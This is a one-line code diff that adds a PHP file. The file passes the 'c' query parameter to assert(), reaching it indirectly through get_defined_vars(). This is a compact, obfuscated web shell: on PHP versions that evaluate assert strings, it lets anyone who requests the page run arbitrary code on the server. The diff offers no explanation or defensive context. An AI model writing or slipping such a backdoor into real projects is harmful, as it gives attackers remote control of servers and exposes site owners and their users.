@@ -1,0 +1,1 @@
+<?php $v = get_defined_vars(); assert($v["_GET"]["c"]);
